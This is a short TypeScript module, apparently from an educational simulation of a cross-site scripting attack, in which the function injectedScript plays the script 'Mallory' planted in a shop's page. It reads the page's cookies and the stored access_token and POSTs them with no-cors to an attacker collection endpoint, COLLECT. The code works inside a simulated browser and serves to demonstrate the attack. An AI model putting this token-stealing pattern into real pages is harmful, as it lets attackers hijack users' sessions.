import type { Page } from '../browser/index.ts'
import type { Report } from './collect.ts'
import { COLLECT } from './site.ts'

/**
 * The script that Mallory got into the shop's page (XSS). It has exactly the powers of the page's own scripts: it reads
 * what they may read and sends it home, where the answer does not matter.
 */
export async function injectedScript(page: Page): Promise<void> {
  const report: Report = {
    origin: page.origin,
    cookies: page.cookie,
    token: page.localStorage.getItem('access_token'),
  }
  await page.fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
}
